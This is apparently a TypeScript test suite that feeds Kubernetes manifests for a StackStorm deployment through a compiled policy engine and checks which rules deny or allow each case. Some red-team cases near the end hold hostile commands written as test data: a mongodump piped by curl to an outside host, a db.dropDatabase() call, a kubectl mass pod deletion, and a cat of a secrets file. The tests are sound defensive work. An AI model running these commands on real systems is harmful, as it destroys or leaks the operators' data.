        args: ['--config-file=/etc/st2/st2.conf', ...files.map((f) => `--config-file=${f}`)],
        volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' }],
        ...(resources ? { resources } : {}),
      },
      pod: { volumes: [{ name: 'cfg', configMap: { name: 'st2-config' } }] },
    }),
    configMap('st2-config', { 'st2.user.conf': userConf }),
  ];
}

/** The eighth red team's pods that never run and Services that reach no pod (test/policy/redteam/fresh8-pod.ts has the overlays). */
function fresh8PodCases(): RuleCase[] {
  const timersWith = (pod: Manifest = {}, container: Manifest = {}): Manifest[] => [workload('st2timersengine', { pod, container })];
  const secretsConf = (podSc: Manifest): Manifest[] =>
    timersWith(
      { securityContext: podSc, volumes: [{ name: 'secrets', secret: { secretName: 'st2-config-secrets', defaultMode: 0o440 } }] },
      { args: ['--config-file=/etc/st2/st2.secrets.conf'], volumeMounts: [{ name: 'secrets', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf' }] },
    );
  const ns = (level: string): Manifest => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': level } } });
  const rootRunner = workload('st2actionrunner', { container: { securityContext: { runAsUser: 0 } } });
  const svc = (spec: Manifest): Manifest => ({ apiVersion: 'v1', kind: 'Service', metadata: meta('rabbitmq'), spec: { ports: [{ port: 5672 }], ...spec } });
  return [
    ...rows('ST2-OPS-028', [
      ['production', 'a scheduler the cluster does not run is denied', () => timersWith({ schedulerName: 'volcano' }), deny('ST2-OPS-028', { field: 'spec.template.spec.schedulerName', message: 'value=volcano' })],
      ['production', 'the default scheduler is allowed', () => timersWith({ schedulerName: 'default-scheduler' }), 'allowed'],
    ]),
    {
      name: 'Pod Security restricted on a namespace running a root pod is denied',
      rule: 'ST2-OPS-029',
      environment: 'production',
      resources: () => [ns('restricted'), rootRunner],
      expected: deny('ST2-OPS-029', { field: 'spec.template.spec', message: 'level=restricted' }),
    },
    { name: 'Pod Security baseline on the same namespace is allowed', rule: 'ST2-OPS-029', environment: 'production', resources: () => [ns('baseline'), rootRunner], expected: 'allowed', others: ['ST2-REP-005', 'ST2-REP-011'] },
    ...rows('ST2-OPS-030', [
      ['production', 'st2.secrets.conf at 0440 without fsGroup for uid 1000 is denied', () => secretsConf({ runAsUser: 1000, runAsGroup: 1000 }), deny('ST2-OPS-030', { field: 'spec.template.spec.containers.0', message: 'mode=0440' })],
      ['production', 'the same file with fsGroup 1000 is allowed', () => secretsConf({ runAsUser: 1000, runAsGroup: 1000, fsGroup: 1000 }), 'allowed'],
    ]),
    ...rows('ST2-OPS-031', [
      ['production', "a liveness probe on st2api's port in the timers engine is denied", () => timersWith({}, { livenessProbe: { tcpSocket: { port: 9101 } } }), deny('ST2-OPS-031', { field: 'spec.template.spec.containers.0.livenessProbe.tcpSocket.port', message: 'port=9101' })],
      ['production', 'an exec probe in the timers engine is allowed', () => timersWith({}, { livenessProbe: { exec: { command: ['true'] } } }), 'allowed'],
    ]),
    ...rows('ST2-REP-018', [
      ['production', 'a RabbitMQ Service whose selector matches no pod is denied', () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbit' } })], deny('ST2-REP-018', { field: 'spec.selector', message: 'service=rabbitmq' })],
      ['production', 'the RabbitMQ Service selecting its pods is allowed', () => [workload('rabbitmq', { kind: 'StatefulSet', replicas: 3, container: { image: 'rabbitmq:3.12.14' } }), svc({ selector: { app: 'rabbitmq' } })], 'allowed', { others: ['ST2-HRD-004'] }],
    ]),
  ];
}

/** The eighth red team's admission, network, controller and TLS rules (test/policy/redteam/fresh8-adm.ts has the overlays). */
function fresh8Cases(): RuleCase[] {
  const lr = (item: Manifest): Manifest => ({ apiVersion: 'v1', kind: 'LimitRange', metadata: meta('limits'), spec: { limits: [{ type: 'Container', ...item }] } });
  const binding = (actions: string[]): Manifest => ({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'ValidatingAdmissionPolicyBinding', metadata: { name: 'labels-everywhere' }, spec: { policyName: 'require-labels', validationActions: actions } });
  const np = (egress: Manifest[]): Manifest => ({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: meta('egress'), spec: { podSelector: {}, policyTypes: ['Egress'], egress } });
  const kubeDns = { to: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } }, podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } } }], ports: [{ protocol: 'UDP', port: 53 }] };
  const cnp = (egress: Manifest[]): Manifest => ({ apiVersion: 'cilium.io/v2', kind: 'CiliumNetworkPolicy', metadata: meta('egress'), spec: { endpointSelector: {}, egress } });
  const vpa = (mode: string): Manifest => ({ apiVersion: 'autoscaling.k8s.io/v1', kind: 'VerticalPodAutoscaler', metadata: meta('st2api'), spec: { targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'st2api' }, updatePolicy: { updateMode: mode }, resourcePolicy: { containerPolicies: [{ containerName: 'st2api', maxAllowed: { memory: '48Mi' } }] } } });
  const inProd = (m: Manifest): Manifest => ({ ...m, metadata: { ...(m['metadata'] as Manifest), namespace: 'st2-prod' } });
  const web = (issuerSpec: Manifest): Manifest[] => [
    ...haWorkload('st2web').map(inProd),
    inProd({ ...service('st2web', 'st2web'), spec: { selector: { app: 'st2web' }, ports: [{ port: 443, targetPort: 443 }] } }),
    inProd({ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'st2web', annotations: { 'cert-manager.io/cluster-issuer': 'st2-issuer' } }, spec: { tls: [{ hosts: ['st2.example.test'], secretName: 'st2web-tls' }], rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 443 } } } }] } }] } }),
    { apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'st2-issuer' }, spec: issuerSpec },
  ];
  const timers = (annotations: Record<string, string>): Manifest[] => [workload('st2timersengine', { annotations })];
  return [
    ...rows('ST2-OPS-032', [
      ['production', 'a LimitRange min above what st2api requests is denied', () => [...haWorkload('st2api'), lr({ min: { memory: '1Gi' } })], deny('ST2-OPS-032', { field: 'spec.limits.0', message: 'refused=Deployment/st2api' })],
      ['production', 'a LimitRange max st2api fits is allowed', () => [...haWorkload('st2api'), lr({ max: { memory: '1Gi', cpu: '2' } })], 'allowed'],
    ]),
    ...rows('ST2-OPS-033', [
      ['dev', 'a ValidatingAdmissionPolicy bound with Deny over every namespace is denied', () => [binding(['Deny'])], deny('ST2-OPS-033', { message: 'policy=require-labels' })],
      ['production', 'the same binding with Warn and Audit only is allowed', () => [binding(['Warn', 'Audit'])], 'allowed'],
    ]),
    ...rows('ST2-OPS-034', [
      ['production', 'egress without DNS for st2api is denied', () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }])], deny('ST2-OPS-034', { field: 'spec.egress', message: 'to=kube-system/kube-dns' })],
      ['production', 'egress allowing kube-dns on UDP 53 is allowed', () => [...haWorkload('st2api'), np([{ to: [{ podSelector: {} }] }, kubeDns])], 'allowed'],
    ]),
    ...rows('ST2-OPS-035', [
      ['production', 'a Cilium egress policy without a DNS rule is denied', () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }])], deny('ST2-OPS-035', { message: 'port 53' })],
      ['dev', 'a Cilium egress policy allowing DNS outside production is allowed', () => [...haWorkload('st2api'), cnp([{ toEndpoints: [{}] }, { toPorts: [{ ports: [{ port: '53', protocol: 'UDP' }] }] }])], 'allowed'],
    ]),
    ...rows('ST2-EXP-012', [
      ['production', "st2web's production certificate from a selfSigned issuer is denied", () => web({ selfSigned: {} }), deny('ST2-EXP-012', { message: 'a self-signed issuer' })],
      ['production', "st2web's production certificate from Let's Encrypt's production directory is allowed", () => web({ acme: { server: 'https://acme-v02.api.letsencrypt.org/directory' } }), 'allowed'],
    ]),
    ...rows('ST2-REP-019', [
      ['production', 'kube-downscaler taking the timers engine to 0 at weekends is denied', () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC' }), deny('ST2-REP-019', { message: 'component=st2timersengine' })],
      ['production', 'the same annotation with downscaler/exclude is allowed', () => timers({ 'downscaler/downtime': 'Sat-Sun 00:00-24:00 UTC', 'downscaler/exclude': 'true' }), 'allowed'],
    ]),
    ...rows('ST2-REP-020', [
      ['production', "a VPA capping st2api's memory below its request is denied", () => [...haWorkload('st2api'), vpa('Auto')], deny('ST2-REP-020', { message: 'container=st2api' })],
      ['production', 'the same VPA in Off mode is allowed', () => [...haWorkload('st2api'), vpa('Off')], 'allowed'],
    ]),
  ];
}

/** The ninth red team's harm to the cluster and other tenants (test/policy/redteam/fresh9-cluster.ts has the overlays). */
function fresh9ClusterCases(): RuleCase[] {
  const priorityClass = (value: number, globalDefault: boolean): Manifest => ({ apiVersion: 'scheduling.k8s.io/v1', kind: 'PriorityClass', metadata: { name: 'st2' }, value, globalDefault });
  const storageClass = (isDefault: string): Manifest => ({ apiVersion: 'storage.k8s.io/v1', kind: 'StorageClass', metadata: { name: 'st2', annotations: { 'storageclass.kubernetes.io/is-default-class': isDefault } }, provisioner: 'ebs.csi.aws.com' });
  const pv = (source: Manifest): Manifest => ({ apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'st2-scratch' }, spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], ...source } });
  const job = (parallelism: number): Manifest => ({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: meta('load'),
    spec: { parallelism, template: { spec: { restartPolicy: 'Never', containers: [{ name: 'c', image: 'busybox:1.36.1', resources: { limits: { cpu: '100m', memory: '64Mi' } }, securityContext: { allowPrivilegeEscalation: false } }] } } },
  });
  const sa = (annotations: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: meta('default', { annotations }) });
  const mongo = (pod: Manifest): Manifest[] => [workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k'] }, pod })];
  return [
    ...rows('ST2-OPS-040', [
      ['dev', 'a globalDefault PriorityClass is denied, in dev too', () => [priorityClass(1000, true)], deny('ST2-OPS-040', { field: 'globalDefault' })],
      ['production', 'a PriorityClass of 100000, not the default, is allowed', () => [priorityClass(100000, false)], 'allowed'],
    ]),
    ...rows('ST2-OPS-041', [
      ['production', 'a default StorageClass is denied', () => [storageClass('true')], deny('ST2-OPS-041', { message: 'kind=StorageClass' })],
      ['production', 'a StorageClass that is not the default is allowed', () => [storageClass('false')], 'allowed'],
    ]),
    ...rows('ST2-OPS-042', [
      ['production', 'an APIService in the render is denied', () => [{ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1beta1.metrics.k8s.io' }, spec: { group: 'metrics.k8s.io', version: 'v1beta1' } }], deny('ST2-OPS-042', { message: 'kind=APIService' })],
      ['production', 'a PolicyException of another engine is not judged', () => [{ apiVersion: 'example.com/v1', kind: 'PolicyException', metadata: meta('x'), spec: {} }], 'allowed'],
    ]),
    ...rows('ST2-OPS-043', [
      ['production', 'a hostPath PersistentVolume is denied', () => [pv({ hostPath: { path: '/' } })], deny('ST2-OPS-043', { field: 'spec.hostPath' })],
      ['production', 'an NFS PersistentVolume is allowed', () => [pv({ nfs: { server: 'nfs.example.test', path: '/st2' } })], 'allowed'],
    ]),
    ...rows('ST2-OPS-044', [
      ['production', 'a Job of 2000 pods at once is denied', () => [job(2000)], deny('ST2-OPS-044', { field: 'spec.parallelism', message: 'pods=2000' })],
      ['production', 'a Job of 10 pods at once is allowed', () => [job(10)], 'allowed'],
    ]),
    {
      name: 'MongoDB pinned to spot nodes is denied',
      rule: 'ST2-OPS-045',
      environment: 'production',
      resources: () => mongo({ nodeSelector: { 'karpenter.sh/capacity-type': 'spot' } }),
      expected: deny('ST2-OPS-045', { field: 'spec.template.spec.nodeSelector.karpenter.sh/capacity-type' }),
    },
    { name: 'MongoDB on on-demand nodes is allowed', rule: 'ST2-OPS-045', environment: 'production', resources: () => mongo({ nodeSelector: { 'karpenter.sh/capacity-type': 'on-demand' } }), expected: 'allowed', others: ['ST2-HRD-004'] },
    ...rows('ST2-SEC-015', [
      ['dev', 'an IRSA role the bundle does not list is denied, in dev too', () => [sa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' })], deny('ST2-SEC-015', { message: 'service_account=default' })],
      ['production', 'a service account without a cloud identity is allowed', () => [sa({ 'eks.amazonaws.com/sts-regional-endpoints': 'true' })], 'allowed'],
    ]),
  ];
}

/** The seventh red team's HA and outage-typo rules (test/policy/redteam/fresh7-ha.ts has the overlays). */
function fresh7Cases(): RuleCase[] {
  const podNamed = (app: string, pod: string): Manifest => ({ ...service(app, app), spec: { selector: { app, 'statefulset.kubernetes.io/pod-name': pod }, ports: [{ port: 2379 }] } });
  return [
    ...rows('ST2-REP-014', [
      ['production', 'an etcd member bootstrapping as a one-member cluster is denied', () => etcd(3, ['--initial-cluster=$(POD_NAME)=http://$(POD_NAME).etcd:2380']), deny('ST2-REP-014', { field: 'spec.template.spec.containers.0', message: 'members=1' })],
      ['staging', 'ETCD_INITIAL_CLUSTER naming two of three members is denied, in staging too', () => etcd(3, [], [{ name: 'ETCD_INITIAL_CLUSTER', value: 'etcd-0=http://etcd-0.etcd:2380,etcd-1=http://etcd-1.etcd:2380' }]), deny('ST2-REP-014', { message: 'members=2' })],
      ['production', 'etcd without --initial-cluster (one member by default) is denied', () => etcd(3, []), deny('ST2-REP-014', { message: 'members=1' })],
      ['production', 'etcd listing its three members is allowed', () => etcd(3, [threeMembers]), 'allowed'],
      ['production', 'rs.initiate() without a configuration (a one-member set) is denied', () => mongo(3, 'rs.initiate();\n'), deny('ST2-REP-014', { field: 'data.init.js', message: 'store=mongodb' })],
      ['production', 'rs.initiate listing two members of a five-member StatefulSet is denied', () => mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(2)}] });\n`), deny('ST2-REP-014', { message: 'members=2' })],
      ['production', 'rs.initiate listing three of five (a three-member set, two pods idle) is allowed', () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { maxUnavailable: 1, selector: { matchLabels: { app: 'mongodb' } } } }], 'allowed'],
      ['production', 'rs.initiate listing every member is allowed', () => mongo(3, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`), 'allowed'],
      ['production', 'a RabbitMQ cluster st2 uses without peer discovery is denied', () => rabbit('# cluster_formation.peer_discovery_backend = k8s\ncluster_partition_handling = pause_minority\n'), deny('ST2-REP-014', { message: 'store=rabbitmq' })],
      ['production', 'a RabbitMQ cluster with Kubernetes peer discovery is allowed', () => rabbit('cluster_formation.peer_discovery_backend = rabbit_peer_discovery_k8s\n'), 'allowed'],
    ]),
    ...rows('ST2-REP-015', [
      ['production', 'st2 coordinating on a one-replica ZooKeeper is denied in production', () => zookeeper(1), deny('ST2-REP-015', { field: 'data.st2.docker.conf', message: 'members=1' })],
      ['staging', 'a two-member ZooKeeper ensemble (even) is a warning in staging', () => zookeeper(2), warn('ST2-REP-015', { message: 'members=2' })],
      ['production', 'a three-member ZooKeeper ensemble behind a Service is allowed', () => zookeeper(3), 'allowed'],
    ]),
    ...rows('ST2-OPS-005', [
      ['production', 'a coordination url naming one member of the ensemble is denied', () => zookeeper(3, 'kazoo://zookeeper-0.zookeeper:2181'), deny('ST2-OPS-005', { message: 'how=coordination url names one member of the store' })],
      ['production', 'a PDB letting a drain take two of three etcd members is denied', () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { maxUnavailable: 2, selector: { matchLabels: { app: 'etcd' } } } }], deny('ST2-OPS-005', { field: 'spec', message: 'how=disruption budget takes the quorum' })],
      ['production', 'a PDB at minAvailable "33%" (two of three may go, rounded up) is denied', () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { minAvailable: '33%', selector: { matchLabels: { app: 'etcd' } } } }], deny('ST2-OPS-005', { message: 'disruptions=2' })],
      ['production', 'a PDB keeping two of five MongoDB members (no majority) is a warning', () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(5)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { minAvailable: 2, selector: { matchLabels: { app: 'mongodb' } } } }], warn('ST2-OPS-005', { message: 'disruptions=3' })],
      ['production', 'a PDB at maxUnavailable 1 on a three-member etcd is allowed', () => etcd(3, [threeMembers]), 'allowed'],
    ]),
    {
      name: 'strategy Recreate on two st2api replicas is denied',
      rule: 'ST2-OPS-005',
      environment: 'production',
      resources: () => {
        const [api, budget] = haWorkload('st2api', 2);
        return [{ ...api, spec: { ...(api?.['spec'] as Manifest), strategy: { type: 'Recreate' } } }, budget ?? {}, RBAC_CONFIG];
      },
      expected: deny('ST2-OPS-005', { field: 'spec.strategy.type', message: 'how=rollout (strategy Recreate)' }),
    },
    ...rows('ST2-OPS-005', [
      ['production', "a Service narrowed to one etcd member that st2's coordination url names is denied", () => [...etcd(3, [threeMembers]), podNamed('etcd', 'etcd-0'), configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' })], deny('ST2-OPS-005', { field: 'spec.selector.statefulset.kubernetes.io/pod-name', message: 'how=Service narrowed to one pod' })],
      ['production', 'a per-member debug Service st2 does not use is allowed', () => [...etcd(3, [threeMembers]), { ...podNamed('etcd', 'etcd-0'), metadata: meta('etcd-0-debug') }], 'allowed'],
    ]),
    ...rows('ST2-OPS-022', [
      ['production', 'cpu "1000" (a thousand cores) is denied', () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '1000', memory: '256Mi' }, limits: { cpu: '1000', memory: '512Mi' } }), deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.requests.cpu', message: 'value=1000' })],
      ['production', 'a memory limit of "512" (bytes) is denied', () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1', memory: '512' } }), deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' })],
      ['dev', 'cpu "1000" is only a warning in dev', () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1000', memory: '512Mi' } }), warn('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.cpu' })],
      ['production', 'cpu "2" and memory "1Gi" are allowed', () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '250m', memory: '5e8' }, limits: { cpu: '2', memory: '1Gi' } }), 'allowed'],
    ]),
    ...rows('ST2-OPS-023', [
      ['production', 'a --config-file no mount provides is denied', () => timers(['/etc/st2/st2.user.cfg']), deny('ST2-OPS-023', { field: 'spec.template.spec.containers.0', message: 'file=/etc/st2/st2.user.cfg' })],
      ['production', 'config files from the image and a mount are allowed', () => timers(['/etc/st2/st2.docker.conf', '/etc/st2/st2.user.conf']), 'allowed'],
      ['production', 'a --config-dir under /etc/st2 that no mount provides is denied (ConfigDirNotFoundError)', () => withArgs(timers(['/etc/st2/st2.user.conf']), '--config-dir=/etc/st2/conf.d'), deny('ST2-OPS-023', { field: 'spec.template.spec.containers.0', message: 'file=/etc/st2/conf.d' })],
      ['production', "a --config-dir at the image's own /etc/st2 is allowed", () => withArgs(timers(['/etc/st2/st2.user.conf']), '--config-dir=/etc/st2'), 'allowed'],
      ['production', 'an unknown time zone for the timers engine is denied where it is written', () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berln\n'), deny('ST2-OPS-023', { field: 'data.st2.user.conf', message: 'problem=unknown time zone' })],
      ['production', 'an IANA zone (or an alias such as US/Eastern) is allowed', () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berlin\n[timer]\nlocal_timezone = US/Eastern\n'), 'allowed'],
    ]),
    ...rows('ST2-OPS-024', [
      ['production', "RabbitMQ's absolute watermark of 2 (bytes) is denied", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2\n' })], deny('ST2-OPS-024', { field: 'data.rabbitmq.conf', message: 'setting=rabbitmq_watermark_absolute' })],
      ['production', "etcd's --quota-backend-bytes=4096 is denied", () => etcd(3, [threeMembers, '--quota-backend-bytes=4096']), deny('ST2-OPS-024', { field: 'spec.template.spec.containers.0.command.4', message: 'setting=etcd_quota' })],
      ['production', 'a 2GB watermark and a 4 GiB quota are allowed', () => [...etcd(3, [threeMembers, '--quota-backend-bytes=4294967296']), configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2GB\n' })], 'allowed'],
    ]),
  ];
}

function kyvernoGenerate(generate: Manifest): Manifest {
  return { apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'gen' }, spec: { rules: [{ name: 'r', match: { any: [{ resources: { kinds: ['Namespace'] } }] }, generate }] } };
}

function kubectlCron(command: readonly string[]): Manifest {
  const container = { name: 'kubectl', image: 'bitnamilegacy/kubectl:1.32.4', command, resources: { limits: { cpu: '200m', memory: '128Mi' } } };
  return { apiVersion: 'batch/v1', kind: 'CronJob', metadata: meta('ops'), spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', containers: [container] } } } } } };
}

function pushSecret(secret: string): Manifest {
  return {
    apiVersion: 'external-secrets.io/v1alpha1',
    kind: 'PushSecret',
    metadata: meta('push'),
    spec: { secretStoreRefs: [{ name: 'backup', kind: 'SecretStore' }], selector: { secret: { name: secret } }, data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'x' } } }] },
  };
}

function hpa(target: string): Manifest {
  return {
    apiVersion: 'autoscaling/v2',
    kind: 'HorizontalPodAutoscaler',
    metadata: meta(target),
    spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: target }, minReplicas: 2, maxReplicas: 5 },
  };
}

/** An engine whose input loses key and certificate facts: a value nothing could parse. */
function withoutParsedFacts(engine: PolicyEngine): PolicyEngine {
  return {
    ...engine,
    evaluate(inputJson) {
      const input = JSON.parse(inputJson) as { facts: { secret_values: Array<Record<string, unknown>> } };
      for (const fact of input.facts.secret_values) {
        fact['private_key'] = null;
        fact['certificates'] = [];
      }
      return engine.evaluate(JSON.stringify(input));
    },
  };
}

describe('policy rules through the compiled wasm', () => {
  let engine: PolicyEngine;
  let fs: FileReader;

  beforeAll(async () => {
    fs = createNodeFileReader(repoRoot);
    engine = await loadPolicyEngine(fs);
    certs = makeCertificates();
  });

  /** The case's resources with st2's RBAC config, unless the case brings its own (one object per name, as a render has). */
  const withRbacConfig = (resources: Manifest[]): Manifest[] => {
    const name = (RBAC_CONFIG['metadata'] as Manifest)['name'];
    return resources.some((r) => r['kind'] === 'ConfigMap' && (r['metadata'] as Manifest | undefined)?.['name'] === name) ? resources : [...resources, RBAC_CONFIG];
  };

  const check = (c: RuleCase): PolicyReport =>
    checkRender(c.unparsableValues ? withoutParsedFacts(engine) : engine, fs, asRendered(withRbacConfig(c.resources())).map((r, i) => ({ ...r, edits: c.edits?.[i] ?? r.edits })), { environment: c.environment, now: NOW });

  it.each(cases)('$rule: $name', (c) => {
    // GIVEN the resources of the case, rendered for its environment
    // WHEN the compiled policies judge them
    const report = check(c);
    // THEN the rule fires with the expected severity, or the render passes
    if (c.expected === 'allowed') {
      expect(report.findings.map((f) => f.rule), JSON.stringify(report.findings)).toEqual(c.others ?? []);
      return;
    }
    const expected = c.expected;
    const finding = report.findings.find((f) => f.rule === expected.rule);
    expect(finding, JSON.stringify(report.findings)).toBeDefined();
    if (!finding) return;
    expect(finding.severity).toBe(expected.severity);
    expect(finding.message.startsWith(engine.rules[expected.rule]?.title ?? '<no title>')).toBe(true);
    expect(finding.remediation).toBe(engine.rules[expected.rule]?.remediation);
    if (expected.field !== undefined) expect(finding.field).toBe(expected.field);
    if (expected.message !== undefined) expect(finding.message).toContain(expected.message);
    expect(finding.resource).toBeDefined();
    expect(hasFailure(report)).toBe(expected.severity === 'deny');
  });

  // The wasm base64.is_valid rejects "", so lib.text_values has a rule of its own for empty data.
  it('denies an empty license in Secret data', () => {
    // GIVEN a license Secret whose data value is the empty string
    const report = checkRender(engine, fs, asRendered([secret('st2-license', { data: { st2_license: '' } })]), { environment: 'production', now: NOW });
    // THEN ST2-SEC-002 denies it
    expect(report.findings.map((f) => `${f.rule} ${f.severity}`)).toContain('ST2-SEC-002 deny');
  });

  it('judges an undeclared environment as production', () => {
    // GIVEN no declared environment WHEN checked THEN the profile is production
    const report = checkRender(engine, fs, [], { environment: undefined, now: NOW });
    expect(report.profile).toBe('production');
  });

  it('has an allowed and a denied case for every rule the engine knows', () => {
    // GIVEN the rule ids the compiled bundle describes
    const ids = Object.keys(engine.rules).sort();
    expect(ids.length).toBeGreaterThanOrEqual(25);
    // THEN each has at least one case of each kind in the table above
    const allowed = new Set(cases.filter((c) => c.expected === 'allowed').map((c) => c.rule));
    const denied = new Set(cases.flatMap((c) => (typeof c.expected === 'object' ? [c.expected.rule] : [])));
    expect(ids.filter((id) => !allowed.has(id)), 'rules without an allowed case').toEqual([]);
    expect(ids.filter((id) => !denied.has(id)), 'rules without a denied case').toEqual([]);
    // AND the table names no rule the engine does not have
    expect([...new Set(cases.map((c) => c.rule))].filter((id) => !ids.includes(id))).toEqual([]);
  });

  it('finds every chart default literal in Secret data, stringData, ConfigMap text and env', () => {
    for (const { id } of CHART_LITERALS) {
      const where = cases.filter((c) => c.rule === 'ST2-SEC-001' && c.name.startsWith(`${id} `)).map((c) => c.name.slice(id.length + 4));
      expect(where, id).toEqual([
        'Secret data (base64) is denied',
        'Secret stringData is denied',
        'ConfigMap text (an st2.docker.conf URL) is denied',
        'a container env literal is denied',
      ]);
    }
  });
});

/** The ninth red team's destructive and leaking commands (test/policy/redteam/fresh9-edge.ts has the overlays). */
function fresh9JobCases(): RuleCase[] {
  const job = (name: string, container: Manifest, pod: Manifest = {}): Manifest => ({
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: meta(name),
    spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name, image: 'mongo:4.4.29', resources: { limits: { cpu: '100m', memory: '128Mi' } }, ...container }], ...pod } } },
  });
  const sh = (script: string): Manifest => ({ command: ['sh', '-c', script] });
  const mongo = (): Manifest => workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29' } });
  const secretsConf = { name: 'secrets', secret: { secretName: 'st2-config-secrets' } };
  const api = (init: Manifest): Manifest[] =>
    haWorkload('st2api', 2, {
      pod: {
        volumes: [{ name: 'st2-rbac', configMap: { name: 'st2-rbac-on' } }, secretsConf],
        initContainers: [{ name: 'init', image: 'busybox:1.36.1', resources: { limits: { cpu: '100m', memory: '64Mi' } }, volumeMounts: [{ name: 'secrets', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf' }], ...init }],
      },
    });
  return [
    ...rows('ST2-OPS-046', [
      ['production', 'a Job dropping the st2 database is denied', () => [job('reset', { command: ['mongo', '--host', 'mongodb-0.mongodb', 'st2', '--eval', 'db.dropDatabase()'] })], deny('ST2-OPS-046', { field: 'spec.template.spec.containers.0', message: 'command=drop' })],
      ['production', 'a Job pinging the database is allowed', () => [job('ping', { command: ['mongo', '--host', 'mongodb-0.mongodb', '--eval', 'db.adminCommand({ping: 1})'] })], 'allowed'],
    ]),
    ...rows('ST2-OPS-047', [
      ['production', "a CronJob's kubectl deleting every MongoDB pod by label is denied", () => [mongo(), job('recycle', { image: 'bitnamilegacy/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })], deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' })],
      ['production', 'kubectl deleting pods of a label no store carries is allowed', () => [job('reaper', { image: 'bitnamilegacy/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })], 'allowed'],
    ]),
    ...rows('ST2-SEC-016', [
      ['production', 'a mongodump sent to an outside host is denied', () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - https://drop.example.net/st2.gz'))], deny('ST2-SEC-016', { field: 'spec.template.spec.containers.0', message: 'payload=store-dump' })],
      ['production', 'a mongodump sent to a Service in the cluster is allowed', () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - http://minio.backup.svc.cluster.local:9000/st2/st2.gz'))], 'allowed'],
    ]),
    ...rows('ST2-SEC-017', [
      ['production', "st2api's init container printing st2.secrets.conf is denied", () => api(sh('cat /etc/st2/st2.secrets.conf')), deny('ST2-SEC-017', { field: 'spec.template.spec.initContainers.0', message: 'secret=st2-config-secrets' })],
      ['production', 'the same file copied to a file is allowed', () => api(sh('cat /etc/st2/st2.secrets.conf > /tmp/st2.secrets.conf')), 'allowed'],
    ]),
    ...fresh9EdgeCases(),
  ];
}

/** The ninth red team's edge: copies of st2's traffic, impostors behind its Services, other tenants' hosts. */
function fresh9EdgeCases(): RuleCase[] {
  const web = (): Manifest[] => [...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }), service('st2web', 'st2web')];
  const ingress = (host: string, annotations: Record<string, string> = {}): Manifest => ({
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: meta('st2web', { annotations }),
